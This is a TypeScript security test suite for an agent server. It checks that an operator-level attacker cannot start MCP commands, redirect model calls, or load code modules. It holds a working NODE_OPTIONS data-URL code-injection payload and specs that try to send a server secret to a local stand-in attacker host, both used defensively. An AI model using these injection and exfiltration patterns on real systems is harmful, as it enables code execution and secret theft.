// What registering an agent lets a caller reach (docs/agents.md "Security"), tried as an attacker
// with an operator key over real HTTP: a request never chooses an MCP command, its args, env or
// headers (the NODE_OPTIONS payload below runs nothing), no server env value reaches a host of the
// caller's choice (a local server stands in for that host and records what it receives), the
// served agent's row keeps the served agent, and a tools module needs an admin key. Rows stored by
// older versions that the config no longer allows do not run.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ConfigError, configFromObject } from '../../src/config.js';
import { HTTPValidationError } from '../../src/schemas/index.js';
import { startScriptedOpenAI, type ScriptedOpenAI } from '../fixtures/scripted-openai.js';
import { getJson, postJson, startTestServer, tempDir, type TestServer } from '../helpers/server.js';

const FIXTURES = path.resolve('test/fixtures/agents');
const MCP_FIXTURE = path.resolve('test/fixtures/mcp-stdio-server.ts');
const sha = (k: string) => createHash('sha256').update(k).digest('hex');
const KEYS = { reader: 'sec-reader-key-1', operator: 'sec-operator-key-1', admin: 'sec-admin-key-1' } as const;
const AUTH = { api_keys: Object.entries(KEYS).map(([role, key]) => ({ name: role, role, key_sha256: sha(key) })) };
const as = (role: keyof typeof KEYS) => ({ authorization: `Bearer ${KEYS[role]}` });

/** Values of the server's environment a caller must never get. */
const SERVER_SECRET = 'srv-secret-value-0123456789';
const ALLOWED_KEY = 'sk-allowed-key-value-0123456789';

/** The attacker's host: records every request it receives, answers 401 with a page. */
interface Recorder {
  url: string;
  requests: Array<{ method: string; url: string; headers: IncomingHttpHeaders; body: string }>;
  close(): Promise<void>;
}
async function startRecorder(): Promise<Recorder> {
  const requests: Recorder['requests'] = [];
  const server: HttpServer = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.writeHead(401, { 'content-type': 'text/html' }).end('<html>nope</html>');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

const detailOf = (body: unknown) => HTTPValidationError.parse(body).detail;

describe('registering agents as an attacker with an operator key', () => {
  let served: ScriptedOpenAI;
  let model: ScriptedOpenAI;
  let attacker: Recorder;
  let server: TestServer;
  let url: string;
  let config: Record<string, unknown>;
  const env = { AGENTD_TEST_SERVER_SECRET: SERVER_SECRET, AGENTD_TEST_ALLOWED_KEY: ALLOWED_KEY };
  const work = tempDir('agentd-sec-');
  const marker = path.join(work, 'pwned');
  const nodeOptions = `--import=data:text/javascript,${encodeURIComponent(`import{writeFileSync}from"node:fs";writeFileSync(${JSON.stringify(marker)},"x")`)}`;

  beforeAll(async () => {
    served = await startScriptedOpenAI();
    model = await startScriptedOpenAI();
    attacker = await startRecorder();
    config = {
      auth: AUTH,
      background: { poll_interval_ms: 50 },
      agents: {
        tools_dirs: [FIXTURES],
        model_hosts: [new URL(model.url).host],
        secret_env: ['AGENTD_TEST_ALLOWED_KEY', 'AGENTD_TEST_LISTED_UNSET'],
        mcp_servers: { fx: { command: process.execPath, args: ['--import', 'tsx', MCP_FIXTURE] } },
        max_mcp_servers_per_agent: 1,
        max_spec_bytes: 8192,
      },
    };
    server = await startTestServer(config, { modelUrl: served.url, env });
    url = server.url;
  });

  afterAll(async () => {
    await server?.stop();
    server?.cleanup();
    await served?.close();
    await model?.close();
    await attacker?.close();
    rmSync(work, { recursive: true, force: true });
  });

  beforeEach(() => {
    served.reset();
    model.reset();
    rmSync(marker, { force: true });
  });

  it('the NODE_OPTIONS payload is live: node started with it writes the marker (so its absence below means something)', () => {
    execFileSync(process.execPath, ['-e', '0'], { env: { ...process.env, NODE_OPTIONS: nodeOptions } });
    expect(existsSync(marker)).toBe(true);
  });

  it('an MCP server is only named: a spec carrying a command, args, env or headers is refused and nothing starts', async () => {
    const fxInline = { name: 'fx', command: process.execPath, args: ['--import', 'tsx', MCP_FIXTURE], env: { NODE_OPTIONS: nodeOptions } };
    const attempts = [
      [fxInline],
      [{ server: 'fx', env: { NODE_OPTIONS: nodeOptions } }],
      [{ server: 'fx', args: ['--import', nodeOptions.slice('--import='.length)] }],
      [{ name: 'h', url: `${attacker.url}/mcp`, headers: { authorization: 'Bearer ${AGENTD_TEST_SERVER_SECRET}' } }],
    ];
    for (const role of ['operator', 'admin'] as const) {
      for (const mcp_tools of attempts) {
        const r = await postJson(`${url}/background/agents`, { spec: { agent_id: 'evil-mcp', mcp_tools } }, as(role));
        expect(r.status, `${role} ${JSON.stringify(mcp_tools)}: ${JSON.stringify(r.body)}`).toBe(422);
        expect(r.body.code).toBe('AGT_ERR_VALIDATION');
        expect(detailOf(r.body).map((d) => [d.loc.join('.'), d.type])).toEqual([['body.spec.mcp_tools.0', 'not_allowed']]);
      }
    }
    expect((await getJson(`${url}/background/agents/evil-mcp`, as('operator'))).status).toBe(404);
    expect(server.runtime.agents.mcpPool.size).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(attacker.requests).toHaveLength(0);

    // The server the config defines is what a spec gets, as the operator wrote it.
    const ok = await postJson(
      `${url}/background/agents`,
      { spec: { agent_id: 'named-mcp', model_config: { provider: 'demo' }, mcp_tools: [{ server: 'fx' }], agent_config: { builtin_tools: [] } } },
      as('operator'),
    );
    expect(ok.status, JSON.stringify(ok.body)).toBe(200);
    const run = await postJson(`${url}/run/sync`, { query: 'use fx__echo text="named"', agent_id: 'named-mcp' }, as('operator'));
    expect(run.body).toMatchObject({ status: 'success' });
    expect(run.body.response).toContain('named');
    expect(existsSync(marker)).toBe(false);
  }, 30_000);

  it('a row stored by an older version with an inline MCP command does not run, and starts nothing', async () => {
    const at = new Date().toISOString();
    await server.store.createRecord('bg_agents', 'legacy-mcp', {
      agent_id: 'legacy-mcp',
      mcp_tools: [{ name: 'fx', command: process.execPath, args: ['--import', 'tsx', MCP_FIXTURE], env: { NODE_OPTIONS: nodeOptions } }],
      agent_config: {},
      metadata: {},
      created_at: at,
      updated_at: at,
    });
    const r = await postJson(`${url}/run/sync`, { query: 'hi', agent_id: 'legacy-mcp' }, as('operator'));
    expect(r.status).toBe(409);
    expect(r.body.code).toBe('AGT_ERR_AGENT_UNAVAILABLE');
    expect(existsSync(marker)).toBe(false);
  });

  it('no server env value reaches a host of the caller: keys only from agents.secret_env, hosts only from agents.model_hosts', async () => {
    const attempts: Array<[Record<string, unknown>, string[]]> = [
      [
        { model_config: { provider: 'openai-compatible', base_url: `${attacker.url}/v1`, model: 'm', api_key_env: 'AGENTD_TEST_SERVER_SECRET' } },
        ['body.spec.model_config.base_url', 'body.spec.model_config.api_key_env'],
      ],
      // An allowed key to a host that is not allowed.
      [
        { model_config: { provider: 'openai-compatible', base_url: `${attacker.url}/v1`, model: 'm', api_key_env: 'AGENTD_TEST_ALLOWED_KEY' } },
        ['body.spec.model_config.base_url'],
      ],
      // No key at all: the host still sees the run's prompt and tool results.
      [{ model_config: { provider: 'openai-compatible', base_url: `${attacker.url}/v1`, model: 'm' } }, ['body.spec.model_config.base_url']],
      // The provider's default host and standard key variable are not listed either.
      [{ model_config: { provider: 'openai' } }, ['body.spec.model_config.base_url', 'body.spec.model_config.api_key_env']],
    ];
    for (const [extra, locs] of attempts) {
      const r = await postJson(`${url}/background/agents`, { spec: { agent_id: 'evil-model', ...extra } }, as('operator'));
      expect(r.status, JSON.stringify(r.body)).toBe(422);
      expect(detailOf(r.body).map((d) => [d.loc.join('.'), d.type])).toEqual(locs.map((l) => [l, 'not_allowed']));
      expect(JSON.stringify(r.body)).not.toContain(SERVER_SECRET);
    }
    // Nothing was registered, so a run has nowhere to go; the attacker's host received nothing.
    expect((await postJson(`${url}/run/sync`, { query: 'hi', agent_id: 'evil-model' }, as('operator'))).status).toBe(404);
    expect(attacker.requests).toHaveLength(0);

    // The allowed pair works, and the allowed host gets the allowed key only.
    const ok = await postJson(
      `${url}/background/agents`,
      {
        spec: { agent_id: 'allowed', model_config: { provider: 'openai-compatible', base_url: model.url, model: 'm', api_key_env: 'AGENTD_TEST_ALLOWED_KEY' } },
      },
      as('operator'),
    );
    expect(ok.status, JSON.stringify(ok.body)).toBe(200);
    model.enqueue({ text: 'fine' });
    expect((await postJson(`${url}/run/sync`, { query: 'hi', agent_id: 'allowed' }, as('operator'))).body).toMatchObject({
      status: 'success',
      response: 'fine',
    });
    expect(model.headers[0].authorization).toBe(`Bearer ${ALLOWED_KEY}`);
  });

  it('one answer for a variable that is not allowed and one that is not set: a refusal never tells which variables exist', async () => {
    const refusal = async (name: string) => {
      const r = await postJson(
        `${url}/background/agents`,
        { spec: { agent_id: 'probe', model_config: { provider: 'openai-compatible', base_url: model.url, model: 'm', api_key_env: name } } },
        as('operator'),
      );
      expect(r.status).toBe(422);
      return detailOf(r.body).map((d) => ({ loc: d.loc, type: d.type, msg: d.msg.replace(name, 'NAME') }));
    };
    const setNotListed = await refusal('AGENTD_TEST_SERVER_SECRET');
    const listedNotSet = await refusal('AGENTD_TEST_LISTED_UNSET');
    const neither = await refusal('AGENTD_TEST_NEVER_HEARD_OF');
    expect(setNotListed).toEqual(listedNotSet);
    expect(setNotListed).toEqual(neither);
    expect(setNotListed).toEqual([{ loc: ['body', 'spec', 'model_config', 'api_key_env'], type: 'not_allowed', msg: expect.any(String) }]);
  });

  it("the served agent's row cannot be given another spec; re-registering it without one still works", async () => {
    const takeover = {
      agent_id: 'default',
      model_config: { provider: 'openai-compatible', base_url: model.url, model: 'm', api_key_env: 'AGENTD_TEST_ALLOWED_KEY' },
    };
    for (const role of ['operator', 'admin'] as const) {
      const r = await postJson(`${url}/background/agents`, { replace: true, spec: takeover }, as(role));
      expect(r.status).toBe(409);
      expect(r.body.code).toBe('AGT_ERR_SERVED_AGENT_RESERVED');
    }
    // Deleting it first does not open the id either.
    expect((await fetch(`${url}/background/agents/default?force=true`, { method: 'DELETE', headers: as('admin') })).status).toBe(200);
    expect((await postJson(`${url}/background/agents`, { spec: takeover }, as('admin'))).body.code).toBe('AGT_ERR_SERVED_AGENT_RESERVED');
    // As docs/agents.md shows: without a spec it is (re-)registered as the served agent.
    const again = await postJson(`${url}/background/agents`, { agent_id: 'default' }, as('operator'));
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    expect(again.body.metadata).toEqual({ served_agent: true });
    expect((await postJson(`${url}/background/agents`, { agent_id: 'default', replace: true }, as('operator'))).status).toBe(200);
    // A spec cannot pass itself off as a served-agent row.
    const posing = await postJson(`${url}/background/agents`, { spec: { agent_id: 'posing', metadata: { served_agent: true } } }, as('operator'));
    expect(posing.status).toBe(422);
    expect(detailOf(posing.body).map((d) => d.loc.join('.'))).toEqual(['body.spec.metadata.served_agent']);

    // A row under the served id written by an older version with a spec of its own is never built.
    const rec = await server.store.getRecord<{ created_at: string }>('bg_agents', 'default');
    await server.store.updateRecord(
      'bg_agents',
      'default',
      { ...takeover, agent_config: {}, metadata: {}, created_at: rec!.value.created_at, updated_at: new Date().toISOString() },
      rec!.version,
    );
    served.enqueue({ text: 'served answers' });
    expect((await postJson(`${url}/background/tasks`, { task_id: 'on-default', query: 'hi', schedule: { type: 'manual' } }, as('operator'))).status).toBe(200);
    const run = await postJson(`${url}/background/tasks/on-default/run`, { wait: true }, as('operator'));
    expect(run.body).toMatchObject({ status: 'completed', agent_id: 'default' });
    expect(served.requests).toHaveLength(1);
    expect(model.requests).toHaveLength(0);

    // At start-up the row is put back to the served agent, so answers say so too.
    await server.stop();
    server = await startTestServer(config, { dataDir: server.dataDir, modelUrl: served.url, env });
    url = server.url;
    const restored = await getJson(`${url}/background/agents/default`, as('reader'));
    expect(restored.body).toMatchObject({ agent_id: 'default', metadata: { served_agent: true } });
    expect(JSON.stringify(restored.body)).not.toContain(model.url);
  });

  it('a tools module needs an admin key; a row registered without one by an older version does not run', async () => {
    const spec = { agent_id: 'with-code', local_tools_ref: path.join(FIXTURES, 'alt-tools.mjs') };
    const refused = await postJson(`${url}/background/agents`, { spec }, as('operator'));
    expect(refused.status).toBe(403);
    expect(refused.body.code).toBe('AGT_ERR_AGENT_SPEC_NEEDS_ADMIN');
    expect((await getJson(`${url}/background/agents/with-code`, as('operator'))).status).toBe(404);
    expect((await postJson(`${url}/background/agents`, { spec }, as('reader'))).body.code).toBe('AGT_ERR_FORBIDDEN');
    const ok = await postJson(`${url}/background/agents`, { spec }, as('admin'));
    expect(ok.status, JSON.stringify(ok.body)).toBe(200);
    expect(ok.body).not.toHaveProperty('admin_registered');
    expect((await postJson(`${url}/run/sync`, { query: 'hi', agent_id: 'with-code' }, as('operator'))).body).toMatchObject({ status: 'success' });

    const at = new Date().toISOString();
    await server.store.createRecord('bg_agents', 'legacy-code', {
      ...spec,
      agent_id: 'legacy-code',
      agent_config: {},
      metadata: {},
      created_at: at,
      updated_at: at,
    });
    const legacy = await postJson(`${url}/run/sync`, { query: 'hi', agent_id: 'legacy-code' }, as('operator'));
    expect(legacy.status).toBe(409);
    expect(legacy.body.code).toBe('AGT_ERR_AGENT_UNAVAILABLE');
  });

  it('caps the size of a spec and the MCP servers it names (422 too_large)', async () => {
    const big = await postJson(`${url}/background/agents`, { spec: { agent_id: 'big', system_instruction: 'x'.repeat(9000) } }, as('operator'));
    expect(big.status).toBe(422);
    expect(detailOf(big.body).map((d) => [d.loc.join('.'), d.type])).toEqual([['body.spec', 'too_large']]);
    const many = await postJson(`${url}/background/agents`, { spec: { agent_id: 'many', mcp_tools: [{ server: 'fx' }, { server: 'fx' }] } }, as('operator'));
    expect(many.status).toBe(422);
    expect(detailOf(many.body).map((d) => [d.loc.join('.'), d.type])).toEqual([['body.spec.mcp_tools', 'too_large']]);
  });
});

describe('the agents config', () => {
  const dataDir = tempDir('agentd-sec-cfg-');
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('refuses the removed agents.mcp_commands with the way to migrate, and a ${NAME} that is not set', () => {
    const refusal = (agents: Record<string, unknown>, env: NodeJS.ProcessEnv = {}): string => {
      try {
        configFromObject({ agents }, { dataDir, env });
      } catch (err) {
        if (err instanceof ConfigError) return err.problems.join('\n');
        throw err;
      }
      return '';
    };
    expect(refusal({ mcp_commands: ['/usr/bin/node'] })).toMatch(/agents\.mcp_commands: removed.*agents\.mcp_servers/);
    expect(refusal({ mcp_servers: { docs: { url: 'https://mcp.example/mcp', headers: { authorization: 'Bearer ${DOCS_TOKEN}' } } } })).toMatch(
      /agents\.mcp_servers\.docs\.headers\.authorization: \$\{DOCS_TOKEN\}/,
    );
    const config = configFromObject(
      { agents: { mcp_servers: { docs: { url: 'https://mcp.example/mcp', headers: { authorization: 'Bearer ${DOCS_TOKEN}' } } }, secret_env: ['K', 'UNSET'] } },
      { dataDir, env: { DOCS_TOKEN: 'docs-token-0123456789', K: 'k-value-0123456789' } },
    );
    expect(config.agents.resolved.mcp.docs).toEqual({ url: 'https://mcp.example/mcp', headers: { authorization: 'Bearer docs-token-0123456789' } });
    expect(config.agents.resolved.secrets).toEqual({ K: 'k-value-0123456789' });
    // The resolved values are never printed with the config.
    expect(JSON.stringify(config)).not.toContain('docs-token-0123456789');
    expect(JSON.stringify(config)).not.toContain('k-value-0123456789');
  });
});

describe('a model endpoint that is not a model API', () => {
  const PAGE_TEXT = 'INTERNAL-PAGE-TEXT';
  let page: HttpServer;
  let pageUrl: string;
  let server: TestServer;

  beforeAll(async () => {
    // Stands in for an internal page a base_url was pointed at (an admin export, a status page).
    page = createServer((req, res) => {
      const kind = (req.url ?? '').split('/')[1];
      req.resume();
      if (kind === 'html')
        res.writeHead(401, { 'content-type': 'text/html' }).end(`<html><body><h1>Admin</h1><pre>${PAGE_TEXT} ${'x'.repeat(500)}</pre></body></html>`);
      else if (kind === 'json') res.writeHead(404, { 'content-type': 'application/json' }).end(JSON.stringify({ records: [{ note: PAGE_TEXT }] }));
      else
        res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message: `bad request ${'y'.repeat(400)} ${PAGE_TEXT}` } }));
    });
    await new Promise<void>((r) => page.listen(0, '127.0.0.1', r));
    pageUrl = `http://127.0.0.1:${(page.address() as AddressInfo).port}`;
    server = await startTestServer({ agents: { model_hosts: [new URL(pageUrl).host] } });
  });

  afterAll(async () => {
    await server?.stop();
    server?.cleanup();
    await new Promise((r) => page?.close(r));
  });

  it('the run error and its events carry the status and a short summary, never the page', async () => {
    for (const [kind, status] of [
      ['html', 401],
      ['json', 404],
      ['long', 400],
    ] as const) {
      const spec = { agent_id: `page-${kind}`, model_config: { provider: 'openai-compatible', base_url: `${pageUrl}/${kind}/v1`, model: 'm' } };
      expect((await postJson(`${server.url}/background/agents`, { spec })).status).toBe(200);
      const run = await postJson(`${server.url}/run/sync`, { query: 'hi', agent_id: spec.agent_id });
      expect(run.body.status, JSON.stringify(run.body)).toBe('error');
      const stored = await getJson(`${server.url}/runs/${run.body.run_id}`);
      const events = await getJson(`${server.url}/telemetry/events?run_id=${run.body.run_id}&limit=500`);
      for (const text of [JSON.stringify(run.body), JSON.stringify(stored.body), JSON.stringify(events.body)]) {
        expect(text).not.toContain(PAGE_TEXT);
        expect(text).not.toContain('<html');
      }
      const message: string = stored.body.error.message;
      expect(message).toContain(`returned ${status}`);
      expect(message.length).toBeLessThanOrEqual(260);
      const modelError = events.body.events.find((e: { event_type: string }) => e.event_type === 'model_error');
      expect(modelError.error.message).toBe(message);
    }
  });
});
